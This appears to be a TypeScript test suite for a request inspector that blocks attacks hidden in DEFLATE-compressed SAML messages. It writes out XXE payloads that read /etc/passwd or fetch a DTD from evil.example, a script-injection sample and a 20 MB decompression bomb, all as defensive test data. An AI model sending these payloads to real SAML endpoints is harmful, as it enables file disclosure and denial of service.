import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { describe, test } from 'node:test'
import { constants, deflateRawSync } from 'node:zlib'
import { decodeBase64Value } from '../src/canonicalise/base64.ts'
import { type InspectedRequest, inspect } from '../src/index.ts'

/** How programs that write SAML compress: with codes made for the text, with fixed ones, and not at all. */
const WAYS: Readonly<Record<string, (text: string) => Buffer>> = {
  'codes of its own': text => deflateRawSync(text, { level: 9 }),
  'fixed codes': text => deflateRawSync(text, { strategy: constants.Z_FIXED }),
  'stored bytes': text => deflateRawSync(text, { level: 0 }),
}

function asQuery(message: Buffer): InspectedRequest {
  return {
    method: 'GET',
    target: `/sso?SAMLRequest=${encodeURIComponent(message.toString('base64'))}&RelayState=8`,
    headers: [],
    body: undefined,
  }
}

function asForm(message: Buffer): InspectedRequest {
  return {
    method: 'POST',
    target: '/sso',
    headers: ['content-type', 'application/x-www-form-urlencoded'],
    body: Buffer.from(`SAMLResponse=${encodeURIComponent(message.toString('base64'))}`),
  }
}

const requestOf = (inside: string): string =>
  `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a7${'c4'.repeat(16)}" Version="2.0" ` +
  `IssueInstant="2026-11-29T02:00:00Z" Destination="https://idp.example/sso">${inside}</samlp:AuthnRequest>`

const ATTACKS: Readonly<Record<string, string>> = {
  'an external entity': `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${requestOf('&x;')}`,
  'an external entity behind a declaration': `<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://evil.example/a.dtd"><r/>`,
  'an external entity behind a mark of byte order': `\ufeff <!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
  'a script': requestOf('<script>alert(1)</script>'),
}

describe('a message in raw DEFLATE, as SAML sends it in a query', () => {
  for (const [way, deflate] of Object.entries(WAYS)) {
    for (const [name, text] of Object.entries(ATTACKS))
      test(`${name} is found in ${way}`, () => {
        for (const request of [asQuery(deflate(text)), asForm(deflate(text))])
          assert.equal(inspect(request, {}).verdict, 'block')
      })

    test(`an honest one passes in ${way}`, () => {
      const message = deflate(requestOf('<saml:Issuer>https://shop.example/metadata</saml:Issuer>'))
      for (const request of [asQuery(message), asForm(message)])
        assert.equal(inspect(request, {}).verdict, 'pass')
    })
  }

  test('attack: what is cut off, or goes on behind its end, is read as far as it goes', () => {
    const message = deflateRawSync(ATTACKS['an external entity'] ?? '')
    for (const odd of [message.subarray(0, -3), Buffer.concat([message, randomBytes(9)])])
      assert.equal(inspect(asQuery(odd), {}).verdict, 'block')
  })

  test('attack: one that comes to twenty megabytes is read to its bound', () => {
    const bomb = deflateRawSync(`<r>${' '.repeat(20_000_000)}</r>`)
    const text = decodeBase64Value(bomb.toString('base64')) ?? ''
    assert.ok(text.startsWith('<r>'), text.slice(0, 20))
    assert.ok(text.length <= 65_536, `${text.length} characters`)
  })

  test('bytes that are something else are not read as a message', () => {
    let texts = 0
    for (let i = 0; i < 5_000; i++) {
      const text = decodeBase64Value(randomBytes(30 + (i % 300)).toString('base64url'))
      if (text?.includes('<') === true) texts++
    }
    assert.ok(texts < 10, `${texts} of 5000`)
    assert.equal(
      decodeBase64Value(deflateRawSync('%3CmxGraphModel dx="1"/%3E'.repeat(9)).toString('base64')),
      undefined,
    )
  })
})
